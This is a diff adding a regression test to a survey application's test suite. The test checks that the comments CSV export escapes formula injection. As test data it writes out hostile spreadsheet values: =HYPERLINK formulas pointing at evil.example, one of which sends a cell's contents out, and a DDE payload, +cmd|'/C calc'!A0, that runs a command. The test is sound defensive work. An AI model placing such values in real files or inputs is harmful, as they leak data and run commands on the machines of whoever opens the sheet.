@@ -23,7 +23,7 @@ from survey.auth.guard import hash_token
 from survey.export.kanon import smallest_class
 from survey.export.microdata import last_complete_month
 from survey.questionnaire import load_definition, standard_definition_bytes
-from survey.tables import ApiToken, AuditLog, Response
+from survey.tables import ApiToken, AuditLog, Office, Response
 from tests.builders import (
     FULL_ANSWERS,
     make_link,
@@ -358,6 +358,29 @@ async def test_managers_export_masked_comments_by_month_apart_from_the_rows(
     assert len(rows) == 2
     assert "Schneider" not in rows[1][5] and "2345678" not in rows[1][5]
     assert rows[1][2:5] == [w.months[0][:4], str(int(w.months[0][5:])), "comment"]
+
+
+async def test_comments_and_names_typed_as_formulas_reach_the_spreadsheet_as_text(
+    client: httpx.AsyncClient, app: Litestar, staff: Any
+) -> None:
+    # a client's comment is typed by anyone who has the link; an office's name by an admin of
+    # another job centre: neither may run as a formula in the CSV a manager opens (t18, #1)
+    w = await _world(app)
+    await Office.update({Office.name: '=HYPERLINK("http://evil.example","Klick")'}).where(
+        Office.id == w.a
+    )
+    link = await make_link(w.a)
+    typed = ['=HYPERLINK("http://evil.example/?x="&A1,"Klick")', "+cmd|'/C calc'!A0", "-2+3"]
+    answers = [{**FULL_ANSWERS, "comment": t} for t in typed]
+    await make_responses(app.state.engine, link, answers, when=_when(w.months[0]))
+    await make_staff_user("leitung", PASSWORD, "manager", organization=w.jc)
+    await staff.login("leitung", PASSWORD)
+    answer = await client.get("/export/comments", params={"labels": "de"})
+    assert answer.status_code == 200, answer.text
+    rows = list(csv.reader(io.StringIO(answer.content.decode("utf-8-sig"))))
+    assert sorted(r[5] for r in rows[1:]) == sorted("'" + t for t in typed)
+    assert all(not cell.startswith(("=", "+", "-", "@")) for r in rows for cell in r)
+    assert all('=HYPERLINK("http://evil.example","Klick")' in r[1] for r in rows[1:])
 
 
 async def test_a_client_leaving_mid_stream_leaves_nothing_behind(
